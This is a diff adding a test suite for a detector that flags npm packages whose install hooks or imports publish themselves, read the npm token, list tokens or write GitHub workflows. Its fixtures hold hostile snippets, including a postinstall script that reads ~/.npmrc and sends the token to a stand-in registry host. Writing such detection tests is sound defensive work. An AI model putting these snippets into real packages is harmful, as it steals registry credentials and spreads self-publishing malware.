@@ -1,0 +1,58 @@
+import { examine } from '../../../test/examine.ts';
+import { publishesItself } from './publishes-itself.ts';
+
+const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
+
+examine(publishesItself, {
+  speaks: [
+    {
+      when: 'a hook publishes',
+      files: { 'package.json': hook, 'setup.js': `require('child_process').execSync('npm publish --access public')` },
+      weight: 'strong',
+      says: ['publish'],
+    },
+    {
+      when: 'a hook asks who it is and has read the token',
+      files: {
+        'package.json': hook,
+        'setup.js': `const t = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8'); require('child_process').execSync('npm whoami')`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a hook puts to the registry with the token it read',
+      files: {
+        'package.json': hook,
+        'setup.js': `const t = require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8'); fetch('https://registry.invalid/x', { method: 'PUT', headers: { authorization: 'Bearer ' + t } })`,
+      },
+      weight: 'proof',
+      says: ['registry.invalid'],
+    },
+    {
+      when: 'an import writes a workflow',
+      files: { 'index.js': `require('fs').writeFileSync('.github/workflows/x.yml', 'on: push')` },
+      weight: 'strong',
+      says: ['build workflow'],
+    },
+    {
+      when: 'the verb is an argument',
+      files: { 'index.js': `require('child_process').spawnSync('npm', ['token', 'list'])` },
+      weight: 'strong',
+    },
+    {
+      when: 'a release tool publishes when its command is run',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `require('child_process').execSync('npm publish')`,
+      },
+      weight: 'context',
+    },
+  ],
+  silent: [
+    {
+      when: 'a tool publishes when called',
+      files: { 'index.js': `exports.release = () => require('child_process').execSync('npm publish')` },
+    },
+    { when: 'a hook installs', files: { 'package.json': hook, 'setup.js': `require('child_process').execSync('npm install x')` } },
+  ],
+});
